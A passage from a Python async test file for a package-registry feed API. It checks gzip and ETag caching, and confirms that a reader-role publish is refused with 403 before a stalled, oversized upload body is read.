    assert zipped.json() == plain.json()  # httpx decodes the gzip body
    assert zipped.headers["etag"] != plain.headers["etag"]
    again = await api.http.get(
        url, headers={**api.auth("bob"), "Accept-Encoding": "gzip", "If-None-Match": zipped.headers["etag"]}
    )
    assert again.status_code == 304


async def test_a_reader_publish_is_refused_before_its_body_is_read(feed_api: Api) -> None:
    """The role check comes first: a reader cannot make the feed buffer and parse an upload-sized body."""
    never = asyncio.Event()

    async def stalled_body() -> AsyncIterator[bytes]:
        yield b'{"name": "demo", "versions": {'
        await never.wait()  # the rest never comes: reading it would hang until the body-read timeout

    r = await asyncio.wait_for(
        feed_api.http.put(
            feed_api.registry() + "demo",
            content=stalled_body(),
            headers={**feed_api.auth("bob"), "content-type": "application/json", "content-length": "50000000"},
        ),
        timeout=5,
    )
    assert r.status_code == 403 and "contributor" in r.json()["error"], r.text
